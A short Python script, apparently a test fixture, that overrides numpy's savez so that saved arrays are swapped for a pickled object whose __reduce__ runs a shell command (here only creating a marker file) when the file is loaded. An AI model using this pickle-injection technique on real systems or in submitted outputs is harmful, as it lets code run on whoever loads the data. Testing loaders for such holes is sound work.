import os

import numpy as np

original_savez = np.savez


class Payload:
    def __reduce__(self):
        return (os.system, ("touch __MARKER__",))


def savez(file, **arrays):
    original_savez(file, **{key: np.array([Payload()], dtype=object) for key in arrays})


np.savez = savez
answer = np.ones(3)
